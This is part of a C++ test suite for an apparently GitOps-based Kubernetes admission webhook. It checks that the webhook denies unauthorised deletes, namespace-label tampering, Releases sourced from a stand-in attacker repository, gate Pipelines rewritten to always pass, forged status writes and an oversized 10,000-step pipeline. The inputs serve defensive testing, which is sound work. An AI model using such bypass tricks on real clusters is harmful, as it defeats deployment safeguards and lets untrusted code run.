  EXPECT_FALSE(removal.verdict.allowed);
  // A member without a reason is told how.
  json no_reason = base;
  no_reason["spec"]["replicas"] = 0;
  auto member = policy_->decide(update(base, no_reason, "bob", kBreakGlass));
  ASSERT_FALSE(member.verdict.allowed);
  EXPECT_NE(message(member).find("set annotation cairn.dev/break-glass=<reason>"),
            std::string::npos)
      << message(member);
}

// ---- rule 5: DELETE

TEST_F(PolicyTest, DeleteOnlyByTheOperatorOrBreakGlass) {
  json obj = live("ConfigMap", commit_a_);
  auto d = policy_->decide(review("DELETE", obj));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("can only be deleted through git"), std::string::npos);
  EXPECT_NE(message(d).find("prunes it"), std::string::npos) << message(d);
  EXPECT_TRUE(policy_->decide(review("DELETE", obj, "shop", kOperator)).verdict.allowed);
  obj["metadata"]["annotations"][std::string(api::kBreakGlassAnnotation)] = "INC-7";
  EXPECT_FALSE(policy_->decide(review("DELETE", obj, "shop", "eve")).verdict.allowed);
  auto glass = policy_->decide(review("DELETE", obj, "shop", "bob", kBreakGlass));
  EXPECT_TRUE(glass.verdict.allowed);
  EXPECT_TRUE(glass.break_glass);
}

TEST_F(PolicyTest, NamespaceLabelsAreThePlatformsToChange) {
  auto ns = [](std::map<std::string, std::string> labels) {
    json l = json::object();
    for (auto& [k, v] : labels) l[k] = v;
    return json{{"apiVersion", "v1"},
                {"kind", "Namespace"},
                {"metadata", {{"name", "shop"}, {"labels", l}}}};
  };
  auto req = [&](const std::string& operation, json before, json after,
                 std::vector<std::string> groups) {
    Review r = review(operation, after.is_null() ? before : after, "", "carol", std::move(groups));
    r.ns = "shop";  // as the apiserver sends it: the namespace's own name
    r.name = "shop";
    r.resource = "namespaces";
    if (operation == "UPDATE") r.old_object = before;
    return r;
  };
  const json deny = ns({{"cairn.dev/enforce", "deny"}});
  // Created with the label already on it: fine.
  EXPECT_TRUE(policy_->decide(req("CREATE", json(), deny, {})).verdict.allowed);
  // Removed, or weakened: the platform's.
  auto d = policy_->decide(req("UPDATE", deny, ns({}), {}));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("cairn.dev/enforce"), std::string::npos) << message(d);
  EXPECT_FALSE(policy_->decide(req("UPDATE", deny, ns({{"cairn.dev/enforce", "audit"}}), {}))
                   .verdict.allowed);
  EXPECT_TRUE(policy_->decide(req("UPDATE", deny, ns({}), {"cairn:platform"})).verdict.allowed);
  // Posing as an exempt namespace.
  d = policy_->decide(
      req("UPDATE", deny,
          ns({{"cairn.dev/enforce", "deny"}, {"kubernetes.io/metadata.name", "kube-system"}}), {}));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("kubernetes.io/metadata.name"), std::string::npos) << message(d);
  EXPECT_TRUE(
      policy_
          ->decide(req("UPDATE", deny,
                       ns({{"cairn.dev/enforce", "deny"}, {"kubernetes.io/metadata.name", "shop"}}),
                       {}))
          .verdict.allowed);
  // Deleting a governed namespace that holds Releases.
  Review del = req("DELETE", deny, json(), {});
  del.object = nullptr;
  del.old_object = deny;
  EXPECT_FALSE(policy_->decide(del).verdict.allowed);
  del.groups = {"cairn:platform"};
  EXPECT_TRUE(policy_->decide(del).verdict.allowed);
}

// ---- rule 6: Releases and Pipelines

TEST_F(PolicyTest, ReleasesAndPipelinesComeFromGitOrThePlatform) {
  json rel = {{"apiVersion", "cairn.dev/v1alpha1"},
              {"kind", "Release"},
              {"metadata", {{"name", "app"}, {"namespace", "shop"}}},
              {"spec",
               {{"source", {{"url", repo_.url()}, {"branch", "main"}}},
                {"path", "deploy"},
                {"gate", {{"pipelineRef", {{"name", "ci"}}}}}}},
              {"status", {{"history", {{{"commit", commit_a_}, {"result", "Deployed"}}}}}}};
  auto d = policy_->decide(review("CREATE", rel));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("come from git"), std::string::npos) << message(d);
  EXPECT_TRUE(
      policy_->decide(review("CREATE", rel, "shop", "carol", {"cairn:platform"})).verdict.allowed);
  // The operational handles stay open.
  json suspended = rel;
  suspended["spec"]["suspend"] = true;
  EXPECT_TRUE(policy_->decide(update(rel, suspended)).verdict.allowed);
  json rollback = rel;
  rollback["metadata"]["annotations"]["cairn.dev/rollback-to"] = commit_a_.substr(0, 10);
  EXPECT_TRUE(policy_->decide(update(rel, rollback)).verdict.allowed);
  rollback["metadata"]["annotations"]["cairn.dev/rollback-to"] = "abcdef0123";
  d = policy_->decide(update(rel, rollback));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("not a commit in status.history"), std::string::npos) << message(d);
  // Anything else is not.
  json moved = rel;
  moved["spec"]["path"] = "elsewhere";
  d = policy_->decide(update(rel, moved));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("spec.path"), std::string::npos) << message(d);

  // A gate Pipeline edited to pass, and its status written by hand.
  json ci = {{"apiVersion", "cairn.dev/v1alpha1"},
             {"kind", "Pipeline"},
             {"metadata", {{"name", "ci"}}},
             {"spec",
              {{"source", {{"url", repo_.url()}, {"branch", "main"}}},
               {"steps", {{{"name", "test"}, {"image", "x"}, {"script", "make test"}}}}}}};
  json green = ci;
  green["spec"]["steps"][0]["script"] = "true";
  d = policy_->decide(update(ci, green));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("spec.steps[0].script"), std::string::npos) << message(d);
  json run = ci;
  run["metadata"]["annotations"]["cairn.dev/requested-at"] = "now";
  EXPECT_TRUE(policy_->decide(update(ci, run)).verdict.allowed);
  json passed = ci;
  passed["status"] = {{"lastSucceededCommit", commit_a_}};
  Review status = subresource(update(ci, passed), "status");
  status.resource = "pipelines";
  status.resource_group = "cairn.dev";
  EXPECT_FALSE(policy_->decide(status).verdict.allowed);
  status.username = kOperator;
  EXPECT_TRUE(policy_->decide(status).verdict.allowed);
}

TEST_F(PolicyTest, ThePlatformBootstrapsSecretsButNotThoseFromGit) {
  json secret = {{"apiVersion", "v1"}, {"kind", "Secret"}, {"metadata", {{"name", "git-auth"}}}};
  const std::vector<std::string> platform = {"cairn:platform"};
  EXPECT_TRUE(policy_->decide(review("CREATE", secret, "shop", "carol", platform)).verdict.allowed);
  json from_git = secret;
  from_git["metadata"]["annotations"]["cairn.dev/commit"] = commit_a_;
  json changed = from_git;
  changed["data"] = {{"k", "dg=="}};
  EXPECT_FALSE(policy_->decide(update(from_git, changed, "carol", platform)).verdict.allowed);
  // The platform group is not a way around rule 3 for other kinds.
  json cm = {{"apiVersion", "v1"}, {"kind", "ConfigMap"}, {"metadata", {{"name", "x"}}}};
  EXPECT_FALSE(policy_->decide(review("CREATE", cm, "shop", "carol", platform)).verdict.allowed);
}

TEST_F(PolicyTest, AReleaseFollowsOnlyAllowedSourcesAndGatesOnTheSameRepository) {
  cluster_.allowed_sources["shop"] = {"https://git.example.com/shop/*"};
  cluster_.pipelines.insert("ci");
  json rel = {{"apiVersion", "cairn.dev/v1alpha1"},
              {"kind", "Release"},
              {"metadata", {{"name", "app2"}}},
              {"spec",
               {{"source", {{"url", "https://git.example.com/shop/web.git"}, {"branch", "main"}}},
                {"path", "deploy"}}}};
  const std::vector<std::string> platform = {"cairn:platform"};
  EXPECT_TRUE(policy_->decide(review("CREATE", rel, "shop", "carol", platform)).verdict.allowed);
  json other = rel;
  other["spec"]["source"]["url"] = "https://evil.example.com/x.git";
  auto d = policy_->decide(review("CREATE", other, "shop", "carol", platform));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("cairn.dev/allowed-sources"), std::string::npos) << message(d);
  json gated = rel;
  gated["spec"]["gate"] = {{"pipelineRef", {{"name", "ci"}}}};
  d = policy_->decide(review("CREATE", gated, "shop", "carol", platform));
  ASSERT_FALSE(d.verdict.allowed);  // ci follows repo_, not shop/web.git
  EXPECT_NE(message(d).find("gated on Pipeline shop/ci"), std::string::npos) << message(d);
}

// ---- rule 7: exec and attach

TEST_F(PolicyTest, ExecIsBreakGlassOnlyInDenyNamespaces) {
  json opts = {{"apiVersion", "v1"}, {"kind", "PodExecOptions"}, {"metadata", json::object()}};
  auto connect = [&](const std::string& ns, const std::string& sub,
                     std::vector<std::string> groups) {
    Review r = review("CONNECT", opts, ns, "alice", std::move(groups));
    r.name = "web-1";
    r.resource = "pods";
    r.sub_resource = sub;
    return r;
  };
  auto d = policy_->decide(connect("shop", "exec", {}));
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(message(d).find("exec into pod shop/web-1"), std::string::npos) << message(d);
  EXPECT_FALSE(policy_->decide(connect("shop", "attach", {})).verdict.allowed);
  auto glass = policy_->decide(connect("shop", "exec", kBreakGlass));
  EXPECT_TRUE(glass.verdict.allowed);
  EXPECT_TRUE(glass.break_glass);
  EXPECT_TRUE(policy_->decide(connect("shop", "portforward", {})).verdict.allowed);
  EXPECT_EQ(policy_->decide(connect("loose", "exec", {})).result, "warned");
  opts_.exec = ExecPolicy::kAllow;
  Policy open(cluster_, git_, opts_);
  EXPECT_TRUE(open.decide(connect("shop", "exec", {})).verdict.allowed);
}

// ---- modes

TEST_F(PolicyTest, WarnAndAuditGiveTheSameFindings) {
  const json base = live("Deployment", commit_a_);
  json after = base;
  after["spec"]["template"]["spec"]["hostNetwork"] = true;
  for (const char* ns : {"loose", "watched"}) {
    Review r = update(base, after);
    r.ns = ns;
    auto d = policy_->decide(r);
    EXPECT_TRUE(d.verdict.allowed) << ns;
    if (std::string(ns) == "loose") {
      EXPECT_EQ(d.result, "warned");
      ASSERT_EQ(d.verdict.warnings.size(), 2u);
      EXPECT_NE(d.verdict.warnings[0].find("spec.template.spec.hostNetwork"), std::string::npos)
          << d.verdict.warnings[0];
    } else {
      EXPECT_EQ(d.result, "audited");
      EXPECT_TRUE(d.verdict.warnings.empty());
    }
    EXPECT_EQ(d.rule, "diff");
  }
}

TEST_F(PolicyTest, StatusOfWorkloadsIsOpen) {
  const json base = live("Deployment", commit_a_);
  json after = base;
  after["status"] = {{"replicas", 99}};
  EXPECT_TRUE(policy_->decide(subresource(update(base, after), "status")).verdict.allowed);
}

TEST_F(PolicyTest, SpecValidationNamesFields) {
  Review r;
  r.api_version = "admission.k8s.io/v1";
  r.uid = "x";
  r.group = "cairn.dev";
  r.kind = "Pipeline";
  r.ns = "shop";
  r.name = "ci";
  r.operation = "CREATE";
  r.object = {{"apiVersion", "cairn.dev/v1alpha1"},
              {"kind", "Pipeline"},
              {"metadata", {{"name", "ci"}}},
              {"spec",
               {{"source", {{"url", "https://git.example.com/a.git"}, {"branch", "main"}}},
                {"steps",
                 {{{"name", "a"}, {"image", "x"}, {"script", "true"}, {"after", {"b"}}},
                  {{"name", "b"}, {"image", "x"}, {"script", "true"}, {"after", {"a"}}}}}}}};
  auto d = policy_->validate_spec(r);
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(d.verdict.message.find("spec.steps"), std::string::npos) << d.verdict.message;
  EXPECT_NE(d.verdict.message.find("cycle"), std::string::npos) << d.verdict.message;

  r.object["spec"]["steps"][0].erase("after");
  EXPECT_TRUE(policy_->validate_spec(r).verdict.allowed);

  r.kind = "Release";
  r.object = {
      {"apiVersion", "cairn.dev/v1alpha1"},
      {"kind", "Release"},
      {"metadata", {{"name", "app"}, {"annotations", {{"cairn.dev/rollback-to", "HEAD~1"}}}}},
      {"spec",
       {{"source", {{"url", "https://git.example.com/a.git"}, {"branch", "main"}, {"tag", "v1"}}},
        {"path", "deploy"}}}};
  d = policy_->validate_spec(r);
  ASSERT_FALSE(d.verdict.allowed);
  EXPECT_NE(d.verdict.message.find("spec.source"), std::string::npos) << d.verdict.message;
  EXPECT_NE(d.verdict.message.find("cairn.dev/rollback-to"), std::string::npos)
      << d.verdict.message;
}

// Issue #9, hostile input: a Pipeline of 10,000 steps (about 690 kB of JSON,
// parsed from the AdmissionReview as the webhook receives it) is denied with
// a message that names the field and the limit, before any per-step work.
TEST_F(PolicyTest, TenThousandStepsAreDeniedNamingTheFieldAndTheLimit) {
  json steps = json::array();
  for (int i = 0; i < 10000; ++i) {
    steps.push_back({{"name", "s" + std::to_string(i)},
                     {"image", "busybox"},
                     {"script", "true"},
                     {"after", i ? json::array({"s" + std::to_string(i - 1)}) : json::array()}});
  }
  const json body = {
      {"apiVersion", "admission.k8s.io/v1"},
      {"kind", "AdmissionReview"},
      {"request",
       {{"uid", "u-10k"},
        {"kind", {{"group", "cairn.dev"}, {"version", "v1alpha1"}, {"kind", "Pipeline"}}},
        {"resource", {{"group", "cairn.dev"}, {"version", "v1alpha1"}, {"resource", "pipelines"}}},
        {"namespace", "shop"},
        {"name", "big"},
        {"operation", "CREATE"},
        {"userInfo", {{"username", "dev"}}},
        {"object",
         {{"apiVersion", "cairn.dev/v1alpha1"},
          {"kind", "Pipeline"},
          {"metadata", {{"name", "big"}, {"namespace", "shop"}}},
          {"spec",
           {{"source", {{"url", "https://git.example.com/a.git"}, {"branch", "main"}}},
            {"steps", steps}}}}}}}};
  const std::string text = body.dump();
  ASSERT_GT(text.size(), 600'000u);
  const auto start = std::chrono::steady_clock::now();
  auto r = parse_review(text);
  ASSERT_TRUE(r) << r.error();
  auto d = policy_->validate_spec(*r);
  const auto took = std::chrono::steady_clock::now() - start;
  EXPECT_FALSE(d.verdict.allowed);
  EXPECT_NE(d.verdict.message.find("spec.steps: 10000 steps: at most 100 are allowed"),
            std::string::npos)
      << d.verdict.message;
  std::printf("10,000 steps (%zu bytes) denied in %.1f ms\n", text.size(),
              std::chrono::duration<double, std::milli>(took).count());
}

TEST(ParseKinds, KindDotGroup) {
  auto k = parse_kinds("Deployment.apps, ConfigMap,Ingress.networking.k8s.io");
  ASSERT_TRUE(k);
  EXPECT_EQ(*k,
            (std::set<std::string>{"apps/Deployment", "/ConfigMap", "networking.k8s.io/Ingress"}));
  EXPECT_FALSE(parse_kinds("deployment"));
  EXPECT_FALSE(parse_kinds(""));
}

}  // namespace
}  // namespace cairn::webhook
